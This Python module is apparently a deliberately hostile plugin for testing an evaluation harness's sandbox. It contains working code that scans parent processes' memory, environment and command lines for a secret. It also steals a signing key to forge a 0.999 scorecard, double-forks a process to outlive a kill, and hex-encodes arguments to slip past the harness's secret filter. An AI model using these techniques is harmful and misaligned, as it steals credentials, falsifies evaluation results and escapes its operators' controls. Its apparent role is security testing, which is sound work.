"""A hostile method, as an author with the user's own account would write it: each attack's
outcome lands in ``metadata.attempts`` of every entry. Method args: ``marker`` (or
``marker_hex``: text to look for in memory, environments and command lines),
``error_on_find`` (fail every entry when something was found: a secret run's card keeps no
metadata), ``key_path`` (or ``key_path_hex``: a key file to steal and sign a forged card
with), ``detach`` (a unique sleep length: start ``sleep <detach>`` in a new session,
double-forked, and report its pid) and ``block`` (hang after detaching).
"""

import base64
import contextlib
import json
import os
import re
import subprocess
import time
from pathlib import Path


def _ancestors():
    """Parent, grandparent, ...: the runner's supervisor (and its stand-in outside a PID
    namespace), then the harness. From ``/proc/self``: in a PID namespace ``getpid()`` names
    another process in the host's ``/proc``."""
    found, pid = [], "self"
    for _ in range(5):
        try:
            status = Path(f"/proc/{pid}/status").read_text()
        except OSError:
            break
        pid = int(re.search(r"^PPid:\s+(\d+)", status, re.M).group(1))
        if pid <= 1:
            break
        found.append(pid)
    return found


def _harness(ancestors):
    """The nearest ancestor that runs pytest (its command line names it), or None."""
    for pid in ancestors:
        try:
            words = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        if any(b"pytest" in word and b"mteval" not in word for word in words[:3]):
            return pid
    return None


def _read_memory(pid, marker):
    """Scan the writable mappings of ``pid`` for ``marker``."""
    needle = marker.encode()
    try:
        maps = Path(f"/proc/{pid}/maps").read_text().splitlines()
        fd = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
    except OSError as exc:
        return f"denied: {type(exc).__name__}: {exc}"
    scanned = 0
    try:
        for line in maps:
            span, perms = line.split()[:2]
            if not perms.startswith("rw"):
                continue
            start, end = (int(x, 16) for x in span.split("-"))
            for at in range(start, end, 1 << 22):
                try:
                    chunk = os.pread(fd, min(1 << 22, end - at) + len(needle), at)
                except OSError:
                    break
                scanned += len(chunk)
                if needle in chunk:
                    return f"found: marker in memory of {pid}"
    finally:
        os.close(fd)
    return f"read {scanned} bytes, no marker"


def _look(path, marker):
    try:
        data = Path(path).read_bytes()
    except OSError as exc:
        return f"denied: {type(exc).__name__}"
    return "found" if marker.encode() in data else f"read {len(data)} bytes, no marker"


def _steal_key(path):
    data = Path(path).read_bytes()  # raises where the key is out of reach
    from cryptography.hazmat.primitives import serialization

    key = serialization.load_pem_private_key(data, password=None)
    forged = json.dumps({"scores": {"composite": 0.999}}).encode()
    return "signed a forged card: " + base64.b64encode(key.sign(forged)).decode()[:16]


def _detach(seconds):
    """``sleep`` in a new session, its parent gone at once: a process-group kill misses it."""
    read, write = os.pipe()
    if os.fork() == 0:
        os.setsid()
        quiet = subprocess.DEVNULL  # a daemon keeps none of the runner's pipes
        child = subprocess.Popen(
            ["sleep", seconds], start_new_session=True, stdin=quiet, stdout=quiet, stderr=quiet
        )
        os.write(write, str(child.pid).encode())
        os._exit(0)
    os.close(write)
    with contextlib.suppress(ChildProcessError):
        os.wait()
    return int(os.read(read, 32) or 0)


class Prober:
    async def translate(self, entries, config):
        args = config.method_args
        # hex when the marker is a secret of the harness's: the harness refuses a method arg
        # that holds the value of one of its variables
        marker = args.get("marker") or bytes.fromhex(args.get("marker_hex", "")).decode()
        attempts = {"ancestors": _ancestors(), "declared": os.environ.get("PROBE_DECLARED")}
        attempts["harness"] = _harness(attempts["ancestors"])
        if marker:
            attempts["own_environ"] = "found" if marker in repr(dict(os.environ)) else "clean"
            for pid in attempts["ancestors"]:
                attempts[f"mem_{pid}"] = _read_memory(pid, marker)
                attempts[f"environ_{pid}"] = _look(f"/proc/{pid}/environ", marker)
                attempts[f"cmdline_{pid}"] = _look(f"/proc/{pid}/cmdline", marker)
        key_path = args.get("key_path") or bytes.fromhex(args.get("key_path_hex", "")).decode()
        if key_path:
            try:
                attempts["key"] = _steal_key(key_path)
            except Exception as exc:
                attempts["key"] = f"denied: {type(exc).__name__}: {exc}"[:200]
        if args.get("detach"):
            attempts["detached_pid"] = _detach(args["detach"])
            if args.get("block"):
                time.sleep(600)  # the harness kills the runner at its timeout
        found = [k for k, v in attempts.items() if str(v).startswith(("found", "signed"))]
        if args.get("error_on_find") and [k for k in found if not k.startswith("cmdline_")]:
            # a secret run's card keeps no metadata, but it shows that an entry failed
            return [{"id": e["id"], "error": f"stolen: {found}"} for e in entries]
        return [
            {"id": e["id"], "predicted": e["source"], "metadata": {"attempts": attempts}}
            for e in entries
        ]
